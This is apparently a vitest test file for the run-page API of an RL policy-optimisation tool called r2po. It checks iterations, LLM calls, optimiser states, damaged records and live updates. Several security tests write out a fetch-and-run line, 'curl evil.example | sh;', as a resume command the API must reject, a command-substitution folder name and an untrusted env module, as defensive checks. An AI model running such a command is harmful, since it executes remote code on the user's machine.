import {
  appendFileSync,
  cpSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout } from 'node:timers/promises';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { findReportRuns } from '../../../src/report/run-records.ts';
import { followEvents, walkEvents } from '../../../src/runs/journal/journal.ts';
import { apiProblem } from '../../../src/view/api/index-of-runs.ts';
import { projectionOf } from '../../../src/view/api/projection.ts';
import { callPage, type RunPage, runPage, runUpdate } from '../../../src/view/api/run.ts';
import { IndexOfRuns } from '../../../src/view/server/index-of-runs.ts';
import { RunRoot } from '../../../src/view/server/run-root.ts';
import { writeExport } from '../../../src/view/server/write-export.ts';
import { runCommand } from '../../support/in-process.ts';
import { smallPage, type TestView, testView } from '../../support/view.ts';

let folder: string;
let view: TestView;
const run = (name: string) => join(folder, name);
const page = async (id: string): Promise<RunPage> =>
  runPage.parse(await view.json(`/api/runs/${encodeURIComponent(id)}`));

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'r2po-page-'));
  const common = ['--runs-dir', folder, '--backend', 'cpu', '--quiet', 'evaluation.episodes=4', 'recheck.episodes=8'];
  const made = [
    await runCommand('run', 'cartpole/r2po', '--name', 'llm', 'iterations=4', 'evaluation.max_steps=40', ...common),
    await runCommand('run', 'cartpole/cma-es', '--name', 'cma', 'optimiser.episodes=200', ...common),
    await runCommand('run', 'frozenlake/cem', '--name', 'table', 'optimiser.episodes=400', ...common),
    await runCommand('run', 'cartpole/centaur', '--name', 'both', 'iterations=3', ...common),
  ];
  for (const { code, stderr } of made) if (code !== 0) throw new Error(stderr);
  view = testView(folder);
}, 30_000);
afterAll(() => rmSync(folder, { recursive: true }));
// Tests add runs, and a list that was read within the last 5 ms is not read again.
beforeEach(() => setTimeout(10));

describe('GET /api/runs/:id', () => {
  it('has every iteration with what its candidates and calls were', async () => {
    const { row, iterations, calls, spans, warmup, command, resume, notices } = await page('llm');
    expect([row.status, row.iterations, iterations.length, notices]).toEqual(['finished', 4, 4, []]);
    expect([warmup.length > 0, command?.startsWith('r2po run cartpole/r2po --name llm'), resume]).toEqual([
      true,
      true,
      null,
    ]);
    const events = followEvents(run('llm')).read();
    const evaluated = events.filter((event) => event.type === 'evaluated');
    const candidates = iterations.flatMap((one) => one.candidates);
    expect(candidates.map(({ label, params, mean, ci95 }) => ({ label, params, mean, ci95 }))).toEqual(
      evaluated.map(({ candidate, params, summary: { mean, ci95 } }) => ({ label: candidate, params, mean, ci95 })),
    );
    expect(candidates[0]?.episode?.median.seed).toBe(evaluated[0]?.summary.median_episode.seed);
    const seqs = events.filter((event) => event.type === 'llm_call').map(({ seq }) => seq);
    expect(calls.map(({ seq }) => seq)).toEqual(seqs);
    expect(iterations.flatMap((one) => one.calls)).toEqual(seqs);
    expect(iterations.at(-1)).toMatchObject({
      best: row.best,
      episodes: row.episodes,
      steps: row.steps,
      tokens: row.tokens,
    });
    expect(iterations.every(({ costUsd }) => costUsd === 0)).toBe(true);
    for (const [i, { start, end }] of spans.entries()) {
      expect(end).toBeGreaterThanOrEqual(start);
      expect(start).toBeGreaterThanOrEqual(i === 0 ? 0 : spans[i - 1]!.start);
    }
  });

  it('says what the engine needs to play its policies, and what their parameters are called', async () => {
    const { playable, names } = await page('llm');
    expect(playable).toMatchObject({ env: 'CartPole-v1', policy: { kind: 'linear' }, maxSteps: 40, known: true });
    expect(names?.params[0]).toBe('weight x -> action 0');
    expect(names?.matrix?.rows).toHaveLength(5);
    expect(names?.matrix?.columns).toEqual(['action 0', 'action 1']);
    const table = await page('table');
    expect(table.names).toMatchObject({ paramCount: 16, matrix: null, grid: ['SFFF', 'FHFH', 'FFFH', 'HFFG'] });
    expect(table.names?.actions).toHaveLength(4);
  });

  it('has the states of the optimiser, worked out again from the record', async () => {
    const { optimiser, iterations, notices } = await page('cma');
    expect(notices).toEqual([]);
    expect(optimiser?.iteration).toEqual(iterations.map(({ iteration }) => iteration));
    expect(optimiser?.sigma.every((sigma) => sigma !== null && sigma > 0)).toBe(true);
    for (const [i, spectrum] of optimiser!.spectrum.entries()) {
      expect(spectrum).toEqual([...spectrum].sort((a, b) => b - a));
      expect(optimiser!.axisRatio[i]).toBeCloseTo(spectrum[0]! / spectrum.at(-1)!);
    }
    expect(iterations[0]?.generation?.length).toBeGreaterThan(1);
    expect((await page('table')).optimiser).toMatchObject({ name: 'cem', sigma: expect.arrayContaining([null]) });
    const both = await page('both');
    expect([both.notices, both.optimiser?.iteration]).toEqual([[], [1, 2, 3]]);
    expect((await page('llm')).optimiser).toBeNull();
  });

  it('leaves out states of an optimiser that are not those of the record', async () => {
    cpSync(run('cma'), run('other'), { recursive: true });
    const config = readFileSync(join(run('other'), 'config.yaml'), 'utf8');
    writeFileSync(join(run('other'), 'config.yaml'), config.replace(/^seed: .*$/m, 'seed: 12345'));
    const { optimiser, notices } = await page('other');
    expect([optimiser, notices]).toEqual([null, [expect.stringContaining('the states of the optimiser are left out')]]);
  });

  it('has a run that is called like the stream of the list', async () => {
    cpSync(run('llm'), run('live'), { recursive: true });
    const answer = await view.get('/api/runs/live', { accept: 'application/json' });
    expect(runPage.parse(await answer.json()).row.id).toBe('live');
  });

  it('shows a record up to where it is damaged, and says where that is', async () => {
    cpSync(run('llm'), run('cut'), { recursive: true });
    const path = join(run('cut'), 'events.jsonl');
    const lines = readFileSync(path, 'utf8').split('\n');
    const last = lines.findIndex((line) => line.includes('"type":"iteration"') && line.includes('"iteration":2'));
    writeFileSync(path, [...lines.slice(0, last + 1), 'no JSON', ...lines.slice(last + 1)].join('\n'));
    const { iterations, notices } = await page('cut');
    expect(iterations).toHaveLength(2);
    expect(notices[0]).toMatch(/read up to iteration 2: .*events\.jsonl:\d+: expected an event, got no JSON/);
  });

  it('is damaged where a report leaves the run out, for the same reason, and exported as far as it can be read', async () => {
    const root = join(folder, 'contradictory');
    const damaged = (name: string, file: string, change: (text: string) => string | null) => {
      const path = join(root, name, file);
      cpSync(run('llm'), join(root, name), { recursive: true });
      const text = change(readFileSync(path, 'utf8'));
      if (text === null) rmSync(path);
      else writeFileSync(path, text);
    };
    damaged('whole', 'config.yaml', (text) => text);
    damaged('deleted', 'events.jsonl', () => null);
    damaged('empty', 'events.jsonl', () => '');
    damaged('cut', 'events.jsonl', (text) => text.split('\n').slice(0, -3).join('\n'));
    damaged('edited', 'events.jsonl', (text) => text.replace(/"latencySeconds":[^,]*/, '"latencySeconds":9'));
    damaged('config', 'config.yaml', (text) => `${text}\n: [`);
    damaged('rewards', 'summary.json', (text) => text.replace(/"best_reward": ?\d+/, '"best_reward": 7'));
    const index = new IndexOfRuns(new RunRoot(root), 0);
    await index.refreshChecked();
    const { leftOut, runs } = findReportRuns([root]);
    expect(runs).toHaveLength(1);
    const reasons = new Map(leftOut.map(({ path, reason }) => [path, reason]));
    for (const { id, status, problem, best } of index.rows()) {
      const reason = reasons.get(join(root, id)) ?? null;
      expect([id, problem, status]).toEqual([id, reason, reason === null ? 'finished' : 'damaged']);
      expect(best === null, id).toBe(reason !== null);
      expect((await index.find(id))?.row.problem).toBe(reason);
    }
    const target = join(folder, 'of-contradictory');
    const say = () => {};
    const stop = new AbortController();
    await writeExport({
      root: new RunRoot(root),
      page: smallPage,
      folder: target,
      note: say,
      warn: say,
      signal: stop.signal,
    });
    const cut = /^r2po_data\("\/api\/runs\/cut", (.*)\);$/m.exec(
      readFileSync(join(target, 'data', 'runs_cut.js'), 'utf8'),
    );
    const { row, iterations } = runPage.parse(JSON.parse(cut![1]!));
    expect([row.status, iterations.length]).toEqual(['damaged', 3]);
  });

  it('loads no environment that a run names by a path', async () => {
    cpSync(run('llm'), run('module'), { recursive: true });
    const code = join(folder, 'env.mjs');
    writeFileSync(
      code,
      `import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(join(folder, 'ran'))}, '');`,
    );
    const path = join(run('module'), 'config.yaml');
    writeFileSync(path, readFileSync(path, 'utf8').replace('env: CartPole-v1', `env: ${code}`));
    const { playable, names, notices } = await page('module');
    expect([playable?.known, names, notices.length]).toEqual([false, null, 1]);
    expect(() => readFileSync(join(folder, 'ran'))).toThrow();
  });

  it('plays the policies of a method that it does not load, and says what it cannot show', async () => {
    cpSync(run('llm'), run('own-method'), { recursive: true });
    const path = join(run('own-method'), 'config.yaml');
    writeFileSync(path, readFileSync(path, 'utf8').replace(/^method: .*$/m, 'method: ./mine.mjs'));
    const { playable, names, notices, canBranch, calls } = await page('own-method');
    expect([playable?.known, names?.paramCount, canBranch]).toEqual([true, 10, false]);
    expect(notices).toEqual([
      expect.stringContaining('the method is the module "./mine.mjs", which is not loaded here'),
    ]);
    expect(callPage.parse(await view.json(`/api/runs/own-method/calls/${calls[0]!.seq}`)).sets).toBeNull();
    cpSync(run('own-method'), run('later-method'), { recursive: true });
    const later = join(run('later-method'), 'config.yaml');
    writeFileSync(later, readFileSync(later, 'utf8').replace('method: ./mine.mjs', 'method: theirs'));
    await setTimeout(10);
    expect((await page('later-method')).notices).toEqual([
      expect.stringMatching(/this version cannot use the configuration of the run: .*theirs/),
    ]);
  });

  it('shows nothing of a log that the log does not state, and no search where there was none', async () => {
    cpSync(run('llm'), run('imported'), { recursive: true });
    const path = join(run('imported'), 'run.json');
    const imported = { format: 'reference', layout: 'two-call', source: 's', digest: 'd' };
    writeFileSync(path, JSON.stringify({ ...JSON.parse(readFileSync(path, 'utf8')), imported }));
    const of = await page('imported');
    expect([of.spans, of.canBranch, of.playable?.known]).toEqual([[], false, true]);
    expect(of.iterations.flatMap((one) => one.candidates).map((one) => one.episode)).toEqual(new Array(8).fill(null));
    const events = view.events('/api/runs/imported/live?after=2');
    const { spans, iterations } = runUpdate.parse((await events.next()).data);
    await events.close();
    expect([spans, iterations]).toEqual([[], of.iterations.slice(2)]);
    const common = ['--runs-dir', folder, '--name', 'solved', '--quiet'];
    const { code, stderr } = await runCommand('solve', 'FrozenLake-v1', '--env-option', 'map=4x4', ...common);
    expect([code, stderr]).toEqual([0, expect.anything()]);
    const solved = await page('solved');
    expect([solved.optimiser, solved.canBranch, (await page('llm')).canBranch]).toEqual([null, false, true]);
  });

  it('offers to resume a run until it is finished', async () => {
    cpSync(run('llm'), run('open'), { recursive: true });
    const path = join(run('open'), 'run.json');
    const text = readFileSync(path, 'utf8');
    writeFileSync(path, JSON.stringify({ ...JSON.parse(text), status: 'running' }));
    expect((await page('open')).resume).toBe(`r2po run ${run('open')} --resume`);
    writeFileSync(path, text);
    expect((await page('open')).resume).toBeNull();
  });

  it('says how a training is resumed by a command of r2po alone, for a folder of any name', async () => {
    const training = (name: string, resume: string, status = 'finished') => {
      const imported = { format: 'sb3', layout: 'r2po-baseline', source: 's', digest: 'd' };
      cpSync(run('llm'), run(name), { recursive: true });
      const path = join(run(name), 'run.json');
      const manifest = JSON.parse(readFileSync(path, 'utf8'));
      const made = { ...imported, training: { rewards: 'means', evaluated: true, resume } };
      writeFileSync(path, JSON.stringify({ ...manifest, status, imported: made }));
    };
    training('a $(training)', 'r2po baseline', 'stopped');
    training('foreign', 'curl evil.example | sh;');
    expect((await page('a $(training)')).resume).toBe(`r2po baseline '${run('a $(training)')}' --resume`);
    const response = await view.get('/api/runs/foreign');
    expect([response.status, apiProblem.parse(await response.json()).problem]).toEqual([
      400,
      expect.stringContaining('"imported.training.resume"'),
    ]);
  });

  it('begins the time of an import with its first session', async () => {
    const { code, stderr } = await runCommand('import', 'sb3', 'test/cases/sb3/ppo', '--runs-dir', run('imports'));
    expect(code, stderr).toBe(0);
    const [name] = readdirSync(run('imports'));
    const { row, spans } = await page(`imports/${name}`);
    expect(row.wallSeconds).toBeLessThan(60);
    expect(spans.every(({ start, end }) => start >= 0 && end <= 60_000)).toBe(true);
  });

  it('says so where a run has been deleted while it was shown', async () => {
    cpSync(run('llm'), run('deleted'), { recursive: true });
    await page('deleted');
    rmSync(run('deleted'), { recursive: true });
    const response = await view.get('/api/runs/deleted');
    expect([response.status, apiProblem.parse(await response.json()).problem]).toEqual([
      404,
      expect.stringContaining('may have been deleted'),
    ]);
  });
});

describe('a run whose folder was made anew', () => {
  it('is read from its start, also where its record is longer than the one that was read', async () => {
    const name = run('anew');
    const copy = (other: string): void => {
      rmSync(name, { recursive: true, force: true });
      cpSync(run(other), name, { recursive: true });
    };
    copy('both');
    const [call] = (await page('anew')).calls;
    expect((await view.get(`/api/runs/anew/calls/${call!.seq}`)).status).toBe(200);
    copy('llm');
    expect(statSync(join(name, 'events.jsonl')).size).toBeGreaterThan(statSync(join(run('both'), 'events.jsonl')).size);
    await setTimeout(10);
    const [now, like] = [await page('anew'), await page('llm')];
    expect([now.iterations, now.notices]).toEqual([like.iterations, []]);
    for (const { seq } of like.calls) {
      expect(await view.json(`/api/runs/anew/calls/${seq}`)).toEqual(await view.json(`/api/runs/llm/calls/${seq}`));
    }
  });
});

describe('GET /api/runs/:id/calls/:seq', () => {
  it('has the texts of every call as they were sent, in any order', async () => {
    const whole = [...walkEvents(run('llm'))].flatMap(({ event, messages }) =>
      event.type === 'llm_call' ? [{ event, messages: messages! }] : [],
    );
    const order = [...whole.keys()];
    for (const i of [...order.toReversed(), 1, 3, 2]) {
      const { event, messages } = whole[i]!;
      const call = callPage.parse(await view.json(`/api/runs/llm/calls/${event.seq}`));
      expect([call.call.seq, call.messages, call.reply]).toEqual([event.seq, messages, event.reply.text]);
      const before = whole.slice(0, i).findLast((other) => other.event.purpose === event.purpose);
      expect(call.previous).toEqual(before?.messages ?? null);
      expect(call.sets).toMatchObject([{ length: 10 }]);
    }
  });

  it('has each of the parameter sets that a reply gave', async () => {
    const { calls, iterations } = await page('both');
    const played = followEvents(run('both'))
      .read()
      .flatMap((event) => (event.type === 'generation' ? [event.proposed!.map(({ params }) => params)] : []));
    expect(played.some((sets) => sets.length > 1)).toBe(true);
    for (const [i, sets] of played.entries()) {
      const [candidate] = iterations[i]!.candidates;
      expect(candidate!.byOptimiser).toBe(!sets.some((params) => params.join() === candidate!.params.join()));
      const call = callPage.parse(await view.json(`/api/runs/both/calls/${calls[i]!.seq}`));
      expect(call.sets).toEqual(sets);
    }
  });

  it('is a problem in words where there is no such call', async () => {
    for (const seq of ['0', '99999', 'x', '-1', '1e3']) {
      const response = await view.get(`/api/runs/llm/calls/${seq}`);
      expect([400, 404], seq).toContain(response.status);
      apiProblem.parse(await response.json());
    }
  });
});

describe('GET /api/runs/:id/live', () => {
  it('sends what is new behind an iteration, also while the record grows', async () => {
    cpSync(run('llm'), run('growing'), { recursive: true });
    const path = join(run('growing'), 'events.jsonl');
    const text = readFileSync(path, 'utf8');
    const end = text
      .split('\n')
      .findIndex((line) => line.includes('"type":"iteration"') && line.includes('"iteration":3'));
    const lines = text.split('\n');
    // The last line of the first part is torn, as while it is being written.
    const part = `${lines.slice(0, end).join('\n')}\n${lines[end]!.slice(0, 20)}`;
    writeFileSync(path, part);
    const events = view.events('/api/runs/growing/live', { 'last-event-id': '1' });
    const first = await events.next();
    expect(runUpdate.parse(first.data)).toMatchObject({ iterations: [{ iteration: 2 }] });
    expect([first.event, first.id]).toEqual(['update', '2']);
    appendFileSync(path, text.slice(part.length));
    let update = runUpdate.parse((await events.next()).data);
    while (update.iterations.at(-1)?.iteration !== 4) update = runUpdate.parse((await events.next()).data);
    expect(update.iterations.map(({ iteration }) => iteration)).toEqual([3, 4]);
    expect(update.calls.every(({ iteration }) => iteration > 2)).toBe(true);
    await events.close();
  });
});

describe('the projection of policies', () => {
  it('is along the axes of most variance, and places each policy by its axes', () => {
    const policies = Array.from({ length: 40 }, (_, i) => [3 * (i - 20), Math.cos(i), 0.1 * Math.sin(3 * i) + 5]);
    const { x, y, explained, centre, axes } = projectionOf(policies)!;
    expect(Math.abs(axes[0][0]!)).toBeGreaterThan(0.99);
    expect(explained[0]! + explained[1]!).toBeLessThanOrEqual(1 + 1e-12);
    expect(explained[0]).toBeGreaterThan(explained[1]!);
    const place = (params: readonly number[], axis: readonly number[]) =>
      params.reduce((sum, value, d) => sum + axis[d]! * (value - centre[d]!), 0);
    expect(x[7]).toBeCloseTo(place(policies[7]!, axes[0]));
    expect(y[7]).toBeCloseTo(place(policies[7]!, axes[1]));
  });

  it('has the same points for many parameters, whose matrix is that of the policies', () => {
    const few = Array.from({ length: 30 }, (_, i) => [i, (i * 7) % 5, (i * 3) % 4]);
    const many = few.map((params) => [...params, ...Array.from({ length: 400 }, () => 2)]);
    const [a, b] = [projectionOf(few)!, projectionOf(many)!];
    for (const [i, x] of a.x.entries()) expect([b.x[i], b.y[i]]).toEqual([expect.closeTo(x), expect.closeTo(a.y[i]!)]);
  });

  it('takes policies of more parameters than a call takes arguments', () => {
    const policies = [0, 1, 3].map((shift) => Array.from({ length: 200_000 }, (_, i) => shift * (i % 7)));
    expect(projectionOf(policies)!.explained[0]).toBeCloseTo(1);
  });

  it('is none for policies that do not differ', () => {
    expect(projectionOf([])).toBeNull();
    expect(projectionOf([[1, 2]])).toBeNull();
    expect(
      projectionOf([
        [1, 2],
        [1, 2],
      ]),
    ).toBeNull();
    expect(projectionOf([[1], [1, 2]])).toBeNull();
  });
});
